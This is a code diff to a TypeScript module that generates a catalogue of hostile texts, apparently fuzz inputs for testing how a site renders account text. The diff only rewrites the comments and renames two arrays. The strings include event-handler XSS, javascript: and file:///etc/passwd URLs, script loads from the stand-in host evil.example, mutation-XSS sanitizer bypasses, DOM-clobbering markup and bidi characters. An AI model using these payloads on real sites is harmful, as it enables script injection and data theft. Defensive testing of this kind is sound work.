@@ -1,11 +1,11 @@
 /**
- * What an account's texts could hold if somebody wished the venue ill: a grammar of contexts, each sentence of which would call
- * `trip()`, fetch from `evil.example`, restyle, clobber or garble the page, if it came to be read as anything but text.
+ * Generates hostile texts, as an attacker could put them into the texts of an account. A page that treats one
+ * as markup would call `trip()`, send requests to `evil.example`, restyle itself or lose its variables. Others garble the text.
  */
 const trip = 'trip()';
 const evil = '//evil.example';
 
-/** Each of these puts the script into a handler that fires by itself or when it is touched. */
+/** Markup with a handler that runs by itself or after an event. The script replaces `@`. */
 const handlers = [
   '<img src=x onerror=@>',
   '<img src=x onerror="@">',
@@ -81,7 +81,7 @@ const handlers = [
   '<ul onclick=@><li onclick=@>x</ul>',
 ];
 
-/** Each way to write an address that runs or frames something. */
+/** URLs that run a script or load a document. */
 const schemes = [
   `javascript:${trip}`,
   `JaVaScRiPt:${trip}`,
@@ -104,14 +104,14 @@ const schemes = [
   'file:///etc/passwd',
   'view-source:x',
 ];
-const addressed = [
+const linkTemplates = [
   '<a href="@">x</a>',
   '<img src="@">',
   '<iframe src="@"></iframe>',
   '<form action="@"><button>x</button></form>',
   '<svg><a xlink:href="@"><text>x</text></a></svg>',
 ];
-const otherwiseAddressed = [
+const otherLinkTemplates = [
   '<a href=@>x</a>',
   '<area href="@">',
   '<base href="@">',
@@ -130,7 +130,7 @@ const otherwiseAddressed = [
   '<isindex action="@">',
 ];
 
-/** Requests that nobody asked for. */
+/** Markup that sends requests to another host. */
 const foreign = [
   `<script src=${evil}/a.js></script>`,
   `<link rel=stylesheet href=${evil}/a.css>`,
@@ -212,7 +212,7 @@ const scripts = [
   `\${${trip}}`,
 ];
 
-/** Trees that change when they are written out and read again, or moved. */
+/** Markup whose tree changes after serialization, or after a move to another parent. */
 const mutations = [
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=trip()>',
   '<math><mtext><table><mglyph><style><img src=x onerror=trip()>',
@@ -272,7 +272,7 @@ const mutations = [
   '\u2028<img src=x onerror=trip()>\u2029',
 ];
 
-/** Names that shadow what a script of the page looks up. */
+/** Ids and names that shadow variables of the page's scripts. */
 const clobbering = [
   'slipwayEarly',
   'dataLayer',
@@ -288,7 +288,7 @@ const clobbering = [
   'state',
 ].flatMap((name) => [`<form id=${name}><input name=${name}></form>`, `<a id=${name} name=${name} href=x>x</a>`]);
 
-/** What becomes a stranger's page by its looks alone. */
+/** Markup that imitates or hides the page by its looks. */
 const looks = [
   '<b style="position:fixed;inset:0;z-index:9999;background:red">x</b>',
   '<b class="primary" part="book" slot="footer" role="alert">x</b>',
@@ -308,7 +308,7 @@ const looks = [
   '<slot name=header>x</slot>',
 ];
 
-/** Characters that turn, hide or break what stands around them. */
+/** Characters that reverse, hide or break the text next to them. */
 const characters = [
   ...'\u202e\u202d\u202b\u2066\u2067\u2068\u200f\u061c\u200b\u200d\ufeff\u2060\u00ad\u034f\u115f\u3164\u2800',
 ].map((sign) => `Total${sign}00.01 €`);
@@ -354,7 +354,7 @@ const injections = [
   '-1e999',
 ];
 
-/** Names that every object has already. */
+/** Names of members that every object inherits. */
 const prototypeNames = [
   '__proto__',
   'constructor',
@@ -389,12 +389,12 @@ const long = [
 
 const into = (places: readonly string[], what: string) => places.map((place) => place.replaceAll('@', () => what));
 
-/** All of them, each once. */
+/** All hostile texts without duplicates. */
 export const hostileTexts: readonly string[] = [
   ...new Set([
     ...into(handlers, trip),
-    ...schemes.flatMap((scheme) => into(addressed, scheme)),
-    ...into(otherwiseAddressed, `javascript:${trip}`),
+    ...schemes.flatMap((scheme) => into(linkTemplates, scheme)),
+    ...into(otherLinkTemplates, `javascript:${trip}`),
     ...foreign,
     ...scripts,
     ...mutations,
